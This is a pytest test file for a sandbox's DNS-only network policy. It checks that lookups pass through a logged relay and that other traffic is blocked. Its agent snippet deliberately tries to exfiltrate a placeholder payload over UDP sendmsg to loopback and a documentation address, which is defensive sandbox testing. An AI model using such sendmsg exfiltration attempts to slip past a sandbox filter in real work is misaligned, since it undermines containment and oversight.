"""The promise 'dns' without 'inet': names resolve through the parent's relay, nothing else
leaves (the agent's network namespace has only loopback), and every name is recorded."""

from __future__ import annotations

import os
import socket
from collections.abc import Iterator
from pathlib import Path

import pytest
from progs.dnsserver import FakeNameserver
from progs.snippets import py

from sandbox.testing import Result, assert_denied, run_sandboxed

UNVEIL = ["@python:rx", "@system:rx"]

AGENT = """
import socket, sys
print("resolved", socket.getaddrinfo("agent.example.test", 80, socket.AF_INET)[0][4][0], flush=True)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for name, send in (
    ("sendmsg", lambda: u.sendmsg([b"exfiltrated"], [], 0, ("127.0.0.1", int(sys.argv[1])))),
    ("sendmsg_far", lambda: u.sendmsg([b"exfiltrated"], [], 0, ("192.0.2.1", 53))),
):
    try:
        send()
        print(name, "sent", flush=True)
    except OSError as e:
        print(name, "refused", e.errno, flush=True)
"""


@pytest.fixture
def nameserver() -> Iterator[FakeNameserver]:
    ns = FakeNameserver()
    yield ns
    ns.close()


def _run(tmp_path: Path, ns: FakeNameserver, promises: str, code: str, *args: str) -> Result:
    env = dict(os.environ, SANDBOX_DNS_UPSTREAM=f"127.0.0.1:{ns.port}")
    return run_sandboxed(
        [*py(code), *args], promises=promises, unveil=UNVEIL, workdir=tmp_path, env=env
    )


def test_names_resolve_through_the_relay_and_are_recorded(
    tmp_path: Path, nameserver: FakeNameserver
) -> None:
    r = _run(tmp_path, nameserver, "stdio rpath dns", AGENT, str(nameserver.port))
    assert r.status == 0, r
    assert "resolved 192.0.2.7" in r.stdout, r
    names = [o["path"] for o in r.ops if o["op"] == "dns"]
    assert "agent.example.test" in names, r.ops
    start = r.of_kind("start")[0]["enforced"]
    assert start["dns"] and "network namespace" in start["dns"]


def test_nothing_but_dns_leaves(tmp_path: Path, nameserver: FakeNameserver) -> None:
    """sendmsg carries its destination where the filter cannot read it: the agent's own
    network namespace is what stops it. The same datagram outside the sandbox arrives."""
    outside = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    outside.sendto(b"exfiltrated-directly", ("127.0.0.1", nameserver.port))
    outside.close()
    r = _run(tmp_path, nameserver, "stdio rpath dns", AGENT, str(nameserver.port))
    # To 127.0.0.1 the datagram goes to the agent's own loopback (nobody listens there);
    # anywhere else the network is unreachable. Nothing reaches the host's listener.
    assert "resolved 192.0.2.7" in r.stdout and "sendmsg_far refused 101" in r.stdout, r
    assert b"exfiltrated" not in nameserver.seen, nameserver.seen
    assert b"exfiltrated-directly" in nameserver.seen


def test_tcp_without_inet_is_a_violation(tmp_path: Path, nameserver: FakeNameserver) -> None:
    code = "import socket\nsocket.create_connection(('127.0.0.1', 9), timeout=1)\n"
    r = _run(tmp_path, nameserver, "stdio rpath dns", code)
    assert r.status == 159, r
    assert_denied(r, syscall="connect", action="kill")
